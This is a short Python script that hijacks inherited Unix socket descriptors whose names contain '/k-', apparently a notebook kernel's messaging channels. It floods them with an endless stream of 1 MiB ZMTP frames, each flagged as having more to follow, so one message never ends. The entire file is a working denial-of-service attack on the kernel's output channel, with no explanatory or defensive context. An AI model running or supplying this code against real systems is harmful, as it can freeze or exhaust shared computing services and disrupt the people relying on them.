# One message without end, written frame by frame into the line on which the kernel sends its outputs.
import os
import socket
import stat

frame = b"\x03" + (1 << 20).to_bytes(8, "big") + bytes(1 << 20)  # ZMTP: long, and more is to come.
lines = []
for descriptor in range(3, 200):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            line = socket.socket(fileno=descriptor)
            if "/k-" in str(line.getsockname()) and not line.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                lines.append(line)
            else:
                line.detach()
    except OSError:
        pass
while lines:
    for line in list(lines):
        try:
            line.setblocking(True)
            line.sendall(frame)
        except OSError:
            lines.remove(line)
            line.detach()
